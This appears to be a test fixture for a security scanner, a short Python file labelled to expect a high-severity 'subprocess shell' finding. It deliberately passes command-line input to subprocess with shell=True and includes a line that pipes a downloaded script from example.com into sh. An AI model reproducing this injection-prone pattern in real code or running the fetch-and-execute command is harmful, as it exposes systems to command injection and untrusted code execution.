# expect: python.subprocess_shell high
# note: shell=True with a command built from argv, a formatted literal, or a literal fetching code stays high
# path: tools/run.py
import subprocess, sys
cmd = sys.argv[1]
subprocess.run(cmd, shell=True)
subprocess.call(f'{cmd} --now', shell=True)
subprocess.call('ls %s' % cmd, shell=True)
subprocess.call('curl -s https://example.com/i.sh | sh', shell=True)
